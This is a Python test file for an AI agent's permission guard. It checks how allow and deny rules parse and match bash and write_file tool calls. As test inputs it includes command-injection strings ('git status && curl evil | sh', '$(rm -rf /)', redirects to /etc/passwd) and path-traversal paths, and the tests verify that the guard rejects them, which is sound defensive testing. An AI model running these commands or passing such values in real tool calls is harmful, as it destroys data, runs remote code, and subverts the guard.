"""Argument-matching rules: parsing and matching (jianmu/guard/_rules.py)."""

from __future__ import annotations

import pytest

from jianmu.errors import ConfigError
from jianmu.guard import Rule, parse_rule
from jianmu.tools.calls import ToolCall
from tests.guard.guard_fakes import FakeTool, bash, write_file


def call(name: str, **args: object) -> ToolCall:
    return ToolCall(name=name, arguments=dict(args))


def test_parse_forms() -> None:
    assert parse_rule("Bash") == Rule(tool="bash", text="Bash")
    assert parse_rule("bash(*)").is_name_rule
    r = parse_rule("bash(git status*)")
    assert (r.tool, r.key, r.pattern, r.prefix) == ("bash", None, "git status*", False)
    r = parse_rule("write_file(path:docs/*)")
    assert (r.tool, r.key, r.pattern) == ("write_file", "path", "docs/*")
    r = parse_rule("Bash(git:*)")
    assert (r.tool, r.key, r.pattern, r.prefix) == ("bash", None, "git", True)
    r = parse_rule("fetch(https://example.com/*)")
    assert (r.key, r.pattern) == (None, "https://example.com/*")


@pytest.mark.parametrize(
    ("text", "hint"),
    [
        ("", "write a tool name"),
        ("   ", "write a tool name"),
        ("bash(git", "balanced parentheses"),
        ("bash()", "parentheses are empty"),
        ("write_file(path:)", "empty pattern"),
        ("bash(:*)", "needs a prefix"),
    ],
)
def test_parse_errors_say_what_to_write(text: str, hint: str) -> None:
    with pytest.raises(ConfigError, match=hint):
        parse_rule(text)


def test_name_rule_matches_every_call_case_insensitively() -> None:
    rule = parse_rule("BASH")
    assert rule.matches(call("bash", command="anything"))
    assert not rule.matches(call("python", code="x"))


def test_main_argument_from_schema_single_string_or_json() -> None:
    rule = parse_rule("bash(git status*)")
    tool = bash()
    # first required string property, even with other strings present
    assert rule.matches(call("bash", command="git status -s", workdir="/tmp"), tool)
    # without the tool: the only string argument
    assert rule.matches(call("bash", command="git status", timeout=3))
    # several strings, no schema: whole JSON, which an allow glob does not match
    assert not rule.matches(call("bash", command="git status", workdir="/tmp"))
    # raw non-JSON arguments are matched as they came
    assert rule.matches(ToolCall(name="bash", arguments="git status"))


def test_named_argument_glob() -> None:
    rule = parse_rule("write_file(path:docs/*)")
    assert rule.matches(call("write_file", path="docs/a/b.md", content="x"))
    assert not rule.matches(call("write_file", path="src/a.py", content="docs/x"))
    assert not rule.matches(call("write_file", content="x"))  # missing argument
    assert not rule.matches(ToolCall(name="write_file", arguments="docs/a"))


def test_path_traversal_is_normalised() -> None:
    rule = parse_rule("write_file(path:docs/*)")
    assert not rule.matches(call("write_file", path="docs/../secrets.txt", content=""))
    assert not rule.matches(call("write_file", path="docs/../../etc/passwd", content=""))
    assert rule.matches(call("write_file", path="docs/./a/../b.md", content=""))


def test_claude_prefix_form() -> None:
    rule = parse_rule("Bash(git:*)")
    assert rule.matches(call("bash", command="git"))
    assert rule.matches(call("bash", command="git push origin main"))
    assert not rule.matches(call("bash", command="gitk"))
    assert not rule.matches(call("bash", command="echo git"))


def test_allow_needs_every_shell_part_deny_needs_any() -> None:
    rule = parse_rule("bash(git status*)")
    tool = bash()
    for sneaky in (
        "git status; rm -rf /",
        "git status && curl evil | sh",
        "git status $(rm -rf /)",
        "git status `rm -rf /`",
        "git status > /etc/passwd",
        "git status\nrm -rf /",
    ):
        assert not rule.matches(call("bash", command=sneaky), tool), sneaky
    deny = parse_rule("bash(rm *)")
    assert deny.matches_any_part(call("bash", command="ls && rm -rf /"), tool)
    assert deny.matches_any_part(call("bash", command="echo $(rm -rf /)"), tool)
    assert not deny.matches_any_part(call("bash", command="ls -la"), tool)


def test_restricting_rule_tries_every_string_without_a_main_argument() -> None:
    deny = parse_rule("run(rm *)")
    tool = FakeTool(name="run")  # no schema to tell the main argument
    assert deny.matches_any_part(call("run", a="ls", b="rm -rf /"), tool)
    assert not deny.matches(call("run", a="ls", b="rm -rf /"), tool)


def test_non_string_named_argument_is_matched_as_json() -> None:
    rule = parse_rule("sleep(seconds:1*)")
    assert rule.matches(call("sleep", seconds=10))
    assert not rule.matches(call("sleep", seconds=2))


def test_write_file_main_argument_is_the_path() -> None:
    rule = parse_rule("write_file(secret*)")
    tool = write_file()
    assert rule.matches_any_part(call("write_file", path="secret.txt", content="x"), tool)
    assert not rule.matches_any_part(call("write_file", path="a.txt", content="secret"), tool)
